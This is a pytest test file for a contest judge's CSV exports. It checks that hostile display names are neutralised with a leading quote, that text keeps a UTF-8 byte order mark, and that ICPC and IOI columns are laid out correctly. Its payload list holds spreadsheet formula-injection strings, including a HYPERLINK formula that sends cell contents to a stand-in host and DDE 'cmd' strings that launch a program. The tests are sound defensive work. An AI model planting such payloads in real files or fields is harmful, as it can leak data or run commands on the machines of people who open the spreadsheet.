"""Scoreboard exports (``judge.exports``) opened in a spreadsheet: display names that would be read
as formulas are neutralised, UTF-8 text keeps its letters (byte order mark), columns are headed with
the problems' names and the rows give rank, solved, attempts and penalty (ICPC) or points (IOI)."""

from __future__ import annotations

from datetime import timedelta

import pytest
from sqlalchemy import update

from judge.exports import csv_text, grades_csv, safe_cell, scoreboard_csv
from judge.models import Problem, User, utcnow
from judge.scoreboard import compute_scoreboard
from judge.vocabulary import ScoreboardView

from .conftest import add_problems, add_submission, add_users, csv_rows, make_contest

HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # spaces first: LibreOffice still reads a formula
    "＝1+1",  # full-width equals sign: some locales' Excel reads a formula
]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana Pop", "Ștefan", "a=b", "1-2", "", "O'Brien", 7, -3, 2.5, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_writer_starts_with_a_bom_ends_lines_with_crlf_and_quotes_as_rfc_4180():
    text = csv_text([["a,b", 'say "hi"', "two\nlines", 3, None]])
    assert text == '\ufeff"a,b","say ""hi""","two\nlines",3,\r\n'
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")


@pytest.fixture
def hostile_class(db):
    """An ICPC contest on problems pa ("Lee's maze") and pb whose students chose hostile display
    names; the first of them solved A at minute 5 after one WA; Ștefan tried B once."""
    add_problems(db, "pa", "pb")
    db.execute(update(Problem).where(Problem.id == "pa").values(name="=Lee's maze"))
    names = [f"s{i}" for i in range(len(HOSTILE_NAMES))]
    ids = add_users(db, *names, "stefan")
    for name, display in zip(names, HOSTILE_NAMES):
        db.execute(update(User).where(User.name == name).values(display_name=display))
    db.execute(update(User).where(User.name == "stefan").values(display_name="Ștefan Lupu"))
    db.commit()
    contest = make_contest(db, start=utcnow() - timedelta(minutes=30))
    add_submission(db, contest, ids["s0"], "pa", "WA", 2)
    add_submission(db, contest, ids["s0"], "pa", "AC", 5)
    add_submission(db, contest, ids["stefan"], "pb", "WA", 7)
    return contest


def test_exports_neutralise_hostile_display_names_and_keep_letters(db, hostile_class):
    board = compute_scoreboard(db, hostile_class, ScoreboardView.JURY)
    for text in (scoreboard_csv(board), grades_csv(board)):
        rows = csv_rows(text)
        names = {row[1] if text.startswith("\ufeffrank") else row[0]: row for row in rows[1:]}
        display = 2 if text.startswith("\ufeffrank") else 1
        for i, hostile in enumerate(HOSTILE_NAMES):
            assert names[f"s{i}"][display] == "'" + hostile
        assert names["stefan"][display] == "Ștefan Lupu"
        assert any(head.startswith("A: =Lee's maze") for head in rows[0])  # headed by the letter: no formula
        assert "Ștefan Lupu".encode() in text.encode("utf-8")


def test_scoreboard_csv_gives_rank_solved_attempts_penalty_and_problem_names(db, hostile_class):
    rows = csv_rows(scoreboard_csv(compute_scoreboard(db, hostile_class, ScoreboardView.JURY)))
    assert rows[0] == [
        *("rank", "user", "display name", "solved", "attempts", "penalty", "pending"),
        *(
            "A: =Lee's maze (attempts)",
            "A: =Lee's maze (minute)",
            "B: Problem pb (attempts)",
            "B: Problem pb (minute)",
        ),
    ]
    assert rows[1][:2] == ["1", "s0"] and rows[1][3:] == ["1", "2", "25", "0", "2", "5", "0", ""]
    stefan = next(r for r in rows if r[1] == "stefan")
    assert stefan[0] == "2" and stefan[3:] == ["0", "1", "0", "0", "0", "", "1", ""]


def test_grades_csv_gives_rank_results_per_problem_and_totals(db, hostile_class):
    rows = csv_rows(grades_csv(compute_scoreboard(db, hostile_class, ScoreboardView.JURY)))
    assert rows[0] == [
        *("user", "display name", "rank", "A: =Lee's maze", "B: Problem pb", "solved", "attempts", "penalty")
    ]
    assert [r[0] for r in rows[1:]] == sorted(r[0] for r in rows[1:])
    by_user = {r[0]: r for r in rows[1:]}
    assert by_user["s0"][2:] == ["1", "1", "0", "1", "2", "25"]
    assert by_user["stefan"][2:] == ["2", "0", "0", "0", "1", "0"]


def test_ioi_exports_give_points(db):
    add_problems(db, "pa", "pb")
    ids = add_users(db, "ana", "bob")
    contest = make_contest(db, (("pa", 100), ("pb", 50)), start=utcnow() - timedelta(minutes=30), scoring="ioi")
    add_submission(db, contest, ids["ana"], "pa", "AC", 3)
    add_submission(db, contest, ids["bob"], "pb", "WA", 4)
    board = compute_scoreboard(db, contest, ScoreboardView.JURY)
    assert csv_rows(scoreboard_csv(board)) == [
        ["rank", "user", "display name", "total", "attempts", "pending", "A: Problem pa", "B: Problem pb"],
        ["1", "ana", "Ana", "100", "1", "0", "100", "0"],
        ["2", "bob", "Bob", "0", "1", "0", "0", "0"],
    ]
    assert csv_rows(grades_csv(board)) == [
        ["user", "display name", "rank", "A: Problem pa", "B: Problem pb", "total", "attempts"],
        ["ana", "Ana", "1", "100", "0", "100", "1"],
        ["bob", "Bob", "2", "0", "0", "0", "1"],
    ]


def test_the_api_serves_the_same_csv_as_utf8(api_app, teacher_client, app_db):
    add_problems(app_db, "pa")
    ids = add_users(app_db, "ana")
    app_db.execute(update(User).where(User.id == ids["ana"]).values(display_name="=1+2 Ștefan"))
    app_db.commit()
    contest = make_contest(app_db, ("pa",), start=utcnow() - timedelta(minutes=5), owner="teacher1")
    for path in ("scoreboard.csv", "grades.csv"):
        reply = teacher_client.get(f"/api/v1/contests/{contest.id}/{path}")
        assert reply.status_code == 200, reply.text
        assert reply.headers["content-type"] == "text/csv; charset=utf-8"
        assert reply.content.startswith(b"\xef\xbb\xbf")
        assert "'=1+2 Ștefan" in [cell for row in csv_rows(reply.content.decode("utf-8")) for cell in row]
